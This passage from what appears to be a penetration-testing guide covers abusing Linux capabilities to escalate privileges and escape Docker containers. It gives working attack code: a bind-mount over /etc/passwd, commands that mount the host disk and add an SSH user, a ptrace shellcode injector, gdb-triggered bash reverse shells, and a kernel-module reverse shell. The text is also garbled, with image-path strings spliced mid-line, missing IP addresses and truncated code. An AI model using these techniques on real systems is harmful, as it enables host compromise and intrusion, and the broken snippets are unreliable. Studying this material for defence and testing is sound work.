from ctypes import *libc = CDLL("libc.so.6")
libc.mount.argtypes = (c_char_p, c_char_p, c_char_p, c_ulong, c_char_p)
MS_BIND = 4096
source = b"/path/to/fake/passwd"
target = b"/etc/passwd"
filesystemtype = b"none"
options = b"rw"
mountflags = MS_BIND
libc.mount(source, target, filesystemtype, mountflags, options)
And you will be able to su as root using password "password".
Example with environment (Docker breakout)
You can check the enabled capabilities inside the docker container using:
capsh --print
Current: =cap_chown,cap_dac_override,cap_dac_read_search,cap_fowner,cap_fsetid,cap_kill,cap_setgid,cap_setuid,cap_setpcap,cap_linux_immutable,cap_net_bind_service,cap_net_broadcast,cap_net_admin,cap_net_raw,cap_ipc_lock,cap_ipc_owner,cap_sys_module,cap_sys_rawio,cap_sys_chroot,cap_sys_ptrace,cap_sys_pacct,cap_sys_admin,cap_sys_boot,cap_sys_nice,cap_sys_resource,cap_sys_time,cap_sys_tty_config,cap_mknod,cap_lease,cap_audit_write,cap_audit_control,cap_setfcap,cap_mac_override,cap_mac_admin,cap_syslog,cap_wake_alarm,cap_block_suspend,cap_audit_read+ep
Bounding set=cap_chown,cap_dac_override,cap_dac_read_search,cap_fowner,cap_fsetid,cap_kill,cap_setgid,cap_setuid,cap_setpcap,cap_linux_immutable,cap_net_bind_service,cap_net_broadcast,cap_net_admin,cap_net_raw,cap_ipc_lock,cap_ipc_owner,cap_sys_module,cap_sys_rawio,cap_sys_chroot,cap_sys_ptrace,cap_sys_pacct,cap_sys_admin,cap_sys_boot,cap_sys_nice,cap_sys_resource,cap_sys_time,cap_sys_tty_config,cap_mknod,cap_lease,cap_audit_write,cap_audit_control,cap_setfcap,cap_mac_override,cap_mac_admin,cap_syslog,cap_wake_alarm,cap_block_suspend,cap_audit_read
Securebits: 00/0x0/1'b0
secure-noroot: no (unlocked)
secure-no-suid-fixup: no (unlocked)
secure-keep-caps: no (unlocked)
Inside the previous output you can see that the SYS_ADMIN capability is enabled.
  • Mount
This allows the docker container to mount the host disk and access it freely:
fdisk -l #Get disk name
Disk /dev/sda: 4 GiB, 4294967296 bytes, 8388608 sectors
Units: sectors of 1 * 512 = 512 bytes
Sector size (logical/physical): 512 bytes / 512 bytes
I/O size (minimum/optimal): 512 bytes / 512 bytes
mount /dev/sda /mnt/ #Mount it
cd /mnt
chroot ./ bash #You have a shell inside the docker hosts disk
  • Full access
In the previous method we managed to access the docker host disk. In case you find that the host is running an ssh server, you could create a user inside the docker host disk and access it via SSH:
#Like in the example before, the first step is to moun the dosker host disk
fdisk -l
mount /dev/sda /mnt/
#Then, search for open ports inside the docker host
nc -v -n -w2 -z 1-65535
(UNKNOWN) [] 2222 (?) open
#Finally, create a new user inside the docker host and use it to access via SSH
chroot /mnt/ adduser john
ssh [email protected] -p 2222This means that you can escape the container by injecting a shellcode inside some process running inside the host. To access processes running inside the host the container needs to be run at least with --pid=host.
CAP_SYS_PTRACE allows to use ptrace(2) and recently introduced cross memory attach system calls such as process_vm_readv(2) and process_vm_writev(2). If this capability is granted and the ptrace(2) system call itself is not blocked by a seccomp filter, this will allow an attacker to bypass other seccomp restrictions, see PoC for bypassing seccomp if ptrace is allowed or the following PoC:
Example with binarygetcap -r / 2>/dev/null
/usr/bin/python2.7 = cap_sys_ptrace+ep
import ctypes
import sys
import struct
# Macros defined in <sys/ptrace.h>
# https://code.woboq.org/qt5/include/sys/ptrace.h.html
# Structure defined in <sys/user.h>
# https://code.woboq.org/qt5/include/sys/user.h.html#user_regs_struct
class user_regs_struct(ctypes.Structure):
_fields_ = [
("r15", ctypes.c_ulonglong),
("r14", ctypes.c_ulonglong),
("r13", ctypes.c_ulonglong),
("r12", ctypes.c_ulonglong),
("rbp", ctypes.c_ulonglong),
("rbx", ctypes.c_ulonglong),
("r11", ctypes.c_ulonglong),
("r10", ctypes.c_ulonglong),
("r9", ctypes.c_ulonglong),
("r8", ctypes.c_ulonglong),
("rax", ctypes.c_ulonglong),
("rcx", ctypes.c_ulonglong),
("rdx", ctypes.c_ulonglong),
("rsi", ctypes.c_ulonglong),
("rdi", ctypes.c_ulonglong),
("orig_rax", ctypes.c_ulonglong),
("rip", ctypes.c_ulonglong),
("cs", ctypes.c_ulonglong),
("eflags", ctypes.c_ulonglong),
("rsp", ctypes.c_ulonglong),
("ss", ctypes.c_ulonglong),
("fs_base", ctypes.c_ulonglong),
("gs_base", ctypes.c_ulonglong),
("ds", ctypes.c_ulonglong),
("es", ctypes.c_ulonglong),
("fs", ctypes.c_ulonglong),
("gs", ctypes.c_ulonglong),
libc = ctypes.CDLL("libc.so.6")
# Define argument type and respone type.
libc.ptrace.argtypes = [ctypes.c_uint64, ctypes.c_uint64, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_uint64
# Attach to the process
libc.ptrace(PTRACE_ATTACH, pid, None, None)
# Retrieve the value stored inregisters
libc.ptrace(PTRACE_GETREGS, pid, None,ctypes.byref(registers))
print("Instruction Pointer: " + hex(registers.rip))
print("Injecting Shellcode at: " + hex(registers.rip))
# Shell code copied from exploit db. https://github.com/0x00pf/0x00sec_code/blob/master/mem_inject/infect.c
shellcode = "\x48\x31\xc0\x48\x31\xd2\x48\x31\xf6\xff\xc6\x6a\x29\x58\x6a\x02\x5f\x0f\x05\x48\x97\x6a\x02\x66\xc7\x44\x24\x02\x15\xe0\x54\x5e\x52\x6a\x31\x58\x6a\x10\x5a\x0f\x05\x5e\x6a\x32\x58\x0f\x05\x6a\x2b\x58\x0f\x05\x48\x97\x6a\x03\x5e\xff\xce\xb0\x21\x0f\x05\x75\xf8\xf7\xe6\x52\x48\xbb\x2f\x62\x69\x6e\x2f\x2f\x73\x68\x53\x48\x8d\x3c\x24\xb0\x3b\x0f\x05"
# Inject the shellcode into the running process byte by byte.
for i in xrange(0,len(shellcode),4):
# Convert the byte to little endian.
shellcode_byte_little_endian=struct.pack("<I", shellcode_byte_int).rstrip('\x00').encode('hex')
# Inject the byte.
libc.ptrace(PTRACE_POKETEXT, pid, ctypes.c_void_p(registers.rip+i),shellcode_byte)
print("Shellcode Injected!!")
# Modify the instuction pointer
# Set the registers
libc.ptrace(PTRACE_SETREGS, pid, None, ctypes.byref(registers))
print("Final Instruction Pointer: " + hex(registers.rip))
# Detach from the process.
libc.ptrace(PTRACE_DETACH, pid, None, None)
Example with environment (Docker breakout) - Shellcode Injection
You can check the enabled capabilities inside the docker containerusing:
capsh --print
Current: = cap_chown,cap_dac_override,cap_fowner,cap_fsetid,cap_kill,cap_setgid,cap_setuid,cap_setpcap,cap_net_bind_service,cap_net_raw,cap_sys_chroot,cap_sys_ptrace,cap_mknod,cap_audit_write,cap_setfcap+ep
Bounding set =cap_chown,cap_dac_override,cap_fowner,cap_fsetid,cap_kill,cap_setgid,cap_setuid,cap_setpcap,cap_net_bind_service,cap_net_raw,cap_sys_chroot,cap_sys_ptrace,cap_mknod,cap_audit_write,cap_setfcap
Securebits: 00/0x0/1'b0
secure-noroot: no (unlocked)
secure-no-suid-fixup: no (unlocked)
secure-keep-caps: no (unlocked)
List processes running in the host ps -eaf
  1. 1.
    Get the architecture uname -m
  2. 2.
    Find a shellcode for the architecture (https://www.exploit-db.com/exploits/41128)
  3. 3.
    Find a program to inject the shellcode into a process memory (https://github.com/0x00pf/0x00sec_code/blob/master/mem_inject/infect.c)4. 4.
    Modify the shellcode inside the program and compile it gcc inject.c -o inject
  5. 5.
    Inject it and grab your shell: ./inject 299; nc 5600
Example with environment (Docker breakout) - Gdb Abuse
If GDB is installed (or you can install it with apk add gdb or apt install gdb for example) youcan debug a process from the host and make it call the system function. (This technique also requires the capability SYS_ADMIN).
gdb -p 1234
(gdb) call (void)system("ls")
(gdb) call (void)system("sleep 5")
(gdb) call (void)system("bash -c 'bash -i >& /dev/tcp/ 0>&1'")
You won’t be able to see the output of the command executed but it will be executed by that process (so get a rev shell).


CAP_SYS_MODULE allows the process to load and unload arbitrary kernel modules (init_module(2), finit_module(2) and delete_module(2) system calls). This could lead to trivial privilege escalation and ring-0 compromise. The kernel can be modified at will, subverting all system security, Linux Security Modules, and container systems. This means that you can insert/remove kernel modules in/from the kernel of the host machine.
Example with binaryIn the following example the binary python has this capability.
getcap -r / 2>/dev/null
/usr/bin/python2.7 = cap_sys_module+ep
By default, modprobe command checks for dependency list and map files in the directory /lib/modules/$(uname -r). In order to abuse this, lets create a fake lib/modules folder:
mkdir lib/modules -p
cp -a /lib/modules/5.0.0-20-generic/ lib/modules/$(uname -r)
Then compile the kernel module you can find 2 examples below and copy it to this folder:
cp reverse-shell.ko lib/modules/$(uname -r)/
Finally, execute the needed python code to load this kernel module:
import kmod
km = kmod.Kmod()
Example 2 with binary
In the following example the binary kmod has this capability.getcap -r / 2>/dev/null
/bin/kmod = cap_sys_module+ep
Which means that it's possible to use the command insmod to insert a kernel module. Follow the example below to get a reverse shell abusing this privilege.
Example with environment (Docker breakout)
You can check the enabled capabilities inside the docker container using:
capsh --print
Current: = cap_chown,cap_dac_override,cap_fowner,cap_fsetid,cap_kill,cap_setgid,cap_setuid,cap_setpcap,cap_net_bind_service,cap_net_raw,cap_sys_module,cap_sys_chroot,cap_mknod,cap_audit_write,cap_setfcap+ep
Bounding set =cap_chown,cap_dac_override,cap_fowner,cap_fsetid,cap_kill,cap_setgid,cap_setuid,cap_setpcap,cap_net_bind_service,cap_net_raw,cap_sys_module,cap_sys_chroot,cap_mknod,cap_audit_write,cap_setfcap
Securebits: 00/0x0/1'b0
secure-noroot: no (unlocked)
secure-no-suid-fixup: no (unlocked)
secure-keep-caps: no (unlocked)
Inside the previous output you can see that the SYS_MODULE capability is enabled.
Create the kernel module that is going to execute a reverse shell and the Makefile to compile it:
#include <linux/kmod.h>
#include <linux/module.h>
MODULE_DESCRIPTION("LKM reverse shell module");
char* argv[] = {"/bin/bash","-c","bash -i >& /dev/tcp/ 0>&1", NULL};
static char* envp[] = {"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", NULL };
// call_usermodehelper function is used to create user mode processes from kernel space
static int __init reverse_shell_init(void) {
return call_usermodehelper(argv[0], argv, envp, UMH_WAIT_EXEC);
static void __exit reverse_shell_exit(void) {
printk(KERN_INFO "Exiting\n");obj-m +=reverse-shell.o
make -C /lib/modules/$(shell uname -r)/build M=$(PWD) modules
make -C /lib/modules/$(shell uname -r)/build M=$(PWD) clean
The blank char before each make word in the Makefile must be a tab, not spaces!
Execute make to compile it.
ake[1]: *** /lib/modules/5.10.0-kali7-amd64/build: No such file or directory. Stop.
sudo apt update
sudo apt full-upgrade
Finally, start nc inside a shell and load the module from another one and you will capture the shell in the nc process:
#Shell 1
nc -lvnp 4444
#Shell 2
insmod reverse-shell.ko #Launch the reverse shell
The code of this technique was copied from the laboratory of "Abusing SYS_MODULE Capability" from https://www.pentesteracademy.com/
CAP_DAC_READ_SEARCH allows a process to bypass file read, and directory read and execute permissions. While this was designed to be used for searching or reading files, it also grants the process permission to invoke open_by_handle_at(2). Any process with the capabilityCAP_DAC_READ_SEARCH can use open_by_handle_at(2) to gain access to any file, even files outside their mount namespace. The handle passed into open_by_handle_at(2) is intended to be an 